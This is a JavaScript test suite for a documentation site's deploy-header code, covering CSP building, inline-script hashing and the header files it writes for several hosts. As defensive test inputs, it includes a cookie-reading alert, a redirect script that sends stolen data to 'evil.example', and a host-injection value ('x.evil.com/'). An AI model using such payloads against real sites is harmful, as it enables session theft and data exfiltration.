/**
 * deploy/headers.mjs, the source of the deploy headers: the CSP it builds,
 * how hosts combine its rules, and the files it writes.
 */
import test from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import {
  algoliaHosts,
  classifyInlineScript,
  contentSecurityPolicy,
  HEADER_TABLE,
  headerRules,
  headersFor,
  inlineScriptTexts,
  parseHeadersFile,
  policiesFromHeadersFile,
  policyFor,
  renderHeadersFile,
  renderVercelJson,
  rulesOf,
  serializePolicy,
  sha256,
} from '../../deploy/headers.mjs';
import { serve } from '../../scripts/serve.mjs';
import { loadTs } from '../lib/load-ts.mjs';

const colourMode =
  '!function(){var t=window.localStorage.getItem("theme");document.documentElement.setAttribute("data-theme",t||"light")}()';
const redirect = "\n    window.location.href = '/docs/learn/' + window.location.search + window.location.hash;\n  ";

test('only Docusaurus\u2019 own inline scripts are recognised', () => {
  assert.match(classifyInlineScript(colourMode), /colour mode/);
  assert.match(classifyInlineScript(redirect), /redirect/);
  assert.match(
    classifyInlineScript('function insertBanner(){var n=document.createElement("div");n.id="__docusaurus-base-url-issue-banner-container"}'),
    /base URL/,
  );
  assert.equal(classifyInlineScript('alert(document.cookie)'), null);
  assert.equal(classifyInlineScript("window.location.href = 'https://evil.example/' + steal()"), null);
});

const frameHtml = fs.readFileSync(path.join(import.meta.dirname, '../../static/playground/preview-frame/index.html'), 'utf8');

test("the preview frame's loader is allowed by the playground policy only", () => {
  const [loader, ...others] = inlineScriptTexts(frameHtml);
  assert.equal(others.length, 0);
  assert.match(classifyInlineScript(loader) ?? '', /preview frame/);
  const buildDir = fs.mkdtempSync(path.join(os.tmpdir(), 'headers-'));
  try {
    fs.mkdirSync(path.join(buildDir, 'playground/preview-frame'), { recursive: true });
    fs.writeFileSync(path.join(buildDir, 'playground/preview-frame/index.html'), frameHtml);
    fs.writeFileSync(path.join(buildDir, 'index.html'), `<html><head><script>${colourMode}</script></head></html>`);
    const { strict, loose } = headerRules({ buildDir, env: {} });
    assert.ok(loose.includes(sha256(loader)));
    assert.ok(!strict.includes(sha256(loader)));
    assert.ok(strict.includes(sha256(colourMode)) && loose.includes(sha256(colourMode)));
  } finally {
    fs.rmSync(buildDir, { recursive: true, force: true });
  }
});

test('sha256 gives CSP hash sources', () => {
  assert.equal(sha256(''), "'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='");
});

test('the strict policy allows no inline or eval script and only our origin', () => {
  const policy = contentSecurityPolicy({ scriptHashes: ["'sha256-abc='"] });
  assert.deepEqual(policy['default-src'], ["'self'"]);
  assert.deepEqual(policy['script-src'], ["'self'", "'wasm-unsafe-eval'", "'sha256-abc='"]);
  assert.deepEqual(policy['style-src'], ["'self'"]);
  assert.deepEqual(policy['connect-src'], ["'self'"]);
  assert.deepEqual(policy['img-src'], ["'self'", 'data:']);
  assert.deepEqual(policy['object-src'], ["'none'"]);
  for (const [directive, sources] of Object.entries(policy)) {
    assert.ok(!sources.some((s) => /^https?:|\*/.test(s)), `${directive} names no other host`);
    assert.ok(!sources.includes("'unsafe-eval'"), `${directive} has no 'unsafe-eval'`);
    // Inline style attributes only (see deploy/headers.mjs for why).
    if (directive !== 'style-src-attr') assert.ok(!sources.includes("'unsafe-inline'"), `${directive} has no 'unsafe-inline'`);
  }
});

test('every directive is one that Chromium, Firefox and WebKit all know', () => {
  // WebKit logs "Unrecognized Content-Security-Policy directive" on every
  // page for one it does not know (manifest-src, for one), and its console
  // is out of the WebKit browser stage's reach: this list is the check.
  const known = new Set([
    'default-src', 'script-src', 'script-src-elem', 'script-src-attr', 'style-src', 'style-src-elem',
    'style-src-attr', 'img-src', 'font-src', 'connect-src', 'worker-src', 'frame-src', 'child-src',
    'media-src', 'object-src', 'base-uri', 'form-action', 'frame-ancestors',
  ]);
  for (const playground of [false, true]) {
    for (const directive of Object.keys(contentSecurityPolicy({ scriptHashes: [], playground }))) {
      assert.ok(known.has(directive), `${directive} is known to every engine we test`);
    }
  }
});

test('the playground policy only adds what its preview needs', () => {
  const strict = contentSecurityPolicy({ scriptHashes: [] });
  const loose = contentSecurityPolicy({ scriptHashes: [], playground: true });
  const added = Object.fromEntries(
    Object.entries(loose)
      .map(([d, sources]) => [d, sources.filter((s) => !strict[d].includes(s))])
      .filter(([, sources]) => sources.length),
  );
  assert.deepEqual(added, { 'script-src': ["'unsafe-eval'"], 'style-src': ["'unsafe-inline'"] });
});

test('Algolia hosts join connect-src only when hosted search is configured', () => {
  assert.deepEqual(algoliaHosts({}), []);
  assert.deepEqual(algoliaHosts({ ALGOLIA_APP_ID: 'ABC123' }), [], 'all three variables are needed');
  const env = { ALGOLIA_APP_ID: 'ABC123', ALGOLIA_SEARCH_API_KEY: 'key', ALGOLIA_INDEX_NAME: 'stylex' };
  const hosts = algoliaHosts(env);
  assert.ok(hosts.includes('https://abc123-dsn.algolia.net'));
  assert.ok(hosts.includes('https://abc123-1.algolianet.com'));
  const policy = contentSecurityPolicy({ scriptHashes: [], connect: hosts });
  assert.deepEqual(policy['connect-src'], ["'self'", ...hosts]);
  assert.throws(() => algoliaHosts({ ...env, ALGOLIA_APP_ID: 'x.evil.com/' }));
});

/**
 * Paths of every kind a host answers: pages, the files the post-build steps
 * and other plugins write after the pages, unknown paths (the 404 page) and
 * the playground.
 */
const PATHS = [
  '/',
  '/docs/learn/',
  '/blog/v0.17.1/',
  '/pagefind/pagefind.js',
  '/pagefind/fragment/en_1a2b.pf_fragment',
  '/sitemap.xml',
  '/opensearch.xml',
  '/llms.txt',
  '/docs/learn/installation.md',
  '/404.html',
  '/no/such/page/',
  '/nosuchfile.txt',
  '/assets/js/main.js',
  '/img/logo.svg',
  '/playgroundish/',
  '/playground',
  '/playground/',
  '/playground/preview-frame/',
];
const POLICIES = { strict: 'STRICT', playground: 'PLAYGROUND' };
const expected = (urlPath) => POLICIES[policyFor(urlPath)];

test('the table: the strict policy on every path, the playground policy under /playground/ only', () => {
  assert.deepEqual(HEADER_TABLE.map((row) => row.path), ['/*', '/playground/*', '/assets/*']);
  for (const urlPath of PATHS) {
    assert.equal(policyFor(urlPath), urlPath.startsWith('/playground/') ? 'playground' : 'strict', urlPath);
  }
});

/** The rules as a host reads them: rendered into `_headers` and parsed back. */
const hostRules = (baseUrl) => parseHeadersFile(renderHeadersFile(rulesOf(POLICIES, baseUrl)));

for (const host of ['cloudflare', 'netlify']) {
  test(`_headers on ${host === 'cloudflare' ? 'Cloudflare Pages' : 'Netlify'}: one policy for every path, the table's`, () => {
    for (const baseUrl of ['/', '/stylex/']) {
      const rules = hostRules(baseUrl);
      const prefix = baseUrl.replace(/\/$/, '');
      for (const urlPath of PATHS) {
        const headers = headersFor(rules, `${prefix}${urlPath}`, host);
        assert.equal(headers['Content-Security-Policy'], expected(urlPath), `${prefix}${urlPath}`);
        assert.equal(headers['X-Content-Type-Options'], 'nosniff', urlPath);
        assert.equal(headers['Cache-Control'], urlPath.startsWith('/assets/') ? 'public, max-age=31536000, immutable' : undefined, urlPath);
      }
    }
  });
}

test('the _headers file round-trips and yields its two policies', () => {
  const rules = rulesOf(POLICIES);
  const text = renderHeadersFile(rules);
  assert.match(text, /^# Generated/);
  // Netlify's parser skips a line without a colon; Cloudflare Pages reads it as a detach.
  assert.match(text, /^\/playground\/\*\n {2}! Content-Security-Policy\n {2}Content-Security-Policy: PLAYGROUND$/m);
  assert.deepEqual(parseHeadersFile(text), rules);
  assert.deepEqual(policiesFromHeadersFile(text), { strict: 'STRICT', loose: 'PLAYGROUND' });
});

test('vercel.json: one policy for every path, the table\u2019s', () => {
  const config = JSON.parse(renderVercelJson({ strict: POLICIES.strict, loose: POLICIES.playground }));
  assert.equal(config.outputDirectory, 'build');
  assert.equal(config.trailingSlash, true);
  const matching = (url, key) =>
    config.headers
      .filter((h) => new RegExp(`^${h.source}$`).test(url))
      .flatMap((h) => h.headers.filter((x) => x.key === key).map((x) => x.value));
  for (const urlPath of PATHS) {
    assert.deepEqual(matching(urlPath, 'Content-Security-Policy'), [expected(urlPath)], urlPath);
    assert.deepEqual(matching(urlPath, 'X-Content-Type-Options'), ['nosniff'], urlPath);
  }
  assert.deepEqual(matching('/assets/js/main.js', 'Cache-Control'), ['public, max-age=31536000, immutable']);
});

test('scripts/serve.mjs: one policy for every path of a build, the table\u2019s', async () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'headers-serve-'));
  for (const file of ['index.html', '404.html', 'docs/learn/index.html', 'playground/index.html', 'playground/preview-frame/index.html', 'pagefind/pagefind.js', 'sitemap.xml', 'opensearch.xml', 'assets/js/main.js']) {
    fs.mkdirSync(path.dirname(path.join(dir, file)), { recursive: true });
    fs.writeFileSync(path.join(dir, file), file.endsWith('.html') ? '<!doctype html><title>Page</title>' : 'x');
  }
  fs.writeFileSync(path.join(dir, '_headers'), renderHeadersFile(rulesOf(POLICIES)));
  const server = await serve({ dir });
  try {
    for (const urlPath of ['/', '/docs/learn/', '/pagefind/pagefind.js', '/sitemap.xml', '/opensearch.xml', '/no/such/page/', '/playground/', '/playground/preview-frame/', '/assets/js/main.js']) {
      const response = await fetch(`${server.url}${urlPath}`);
      await response.arrayBuffer();
      assert.equal(response.status, urlPath === '/no/such/page/' ? 404 : 200, urlPath);
      assert.equal(response.headers.get('content-security-policy'), expected(urlPath), urlPath);
    }
  } finally {
    await server.close();
    fs.rmSync(dir, { recursive: true, force: true });
  }
});

test("the deploy-headers step writes the table's rules into build/_headers", async () => {
  const { writeDeployHeaders } = loadTs(path.join(import.meta.dirname, '../../src/plugins/post-build/deploy-headers/index.ts'));
  const buildDir = fs.mkdtempSync(path.join(os.tmpdir(), 'headers-step-'));
  try {
    fs.writeFileSync(path.join(buildDir, 'index.html'), `<html><head><script>${colourMode}</script></head></html>`);
    await writeDeployHeaders({ outDir: buildDir, baseUrl: '/' });
    const rules = parseHeadersFile(fs.readFileSync(path.join(buildDir, '_headers'), 'utf8'));
    const { strict, loose } = headerRules({ buildDir });
    for (const urlPath of PATHS) {
      for (const host of ['cloudflare', 'netlify']) {
        assert.equal(headersFor(rules, urlPath, host)['Content-Security-Policy'], policyFor(urlPath) === 'strict' ? strict : loose, `${host} ${urlPath}`);
      }
    }
  } finally {
    fs.rmSync(buildDir, { recursive: true, force: true });
  }
});

test('a policy serialises in directive order', () => {
  assert.equal(serializePolicy({ 'default-src': ["'self'"], 'img-src': ["'self'", 'data:'] }), "default-src 'self'; img-src 'self' data:");
});
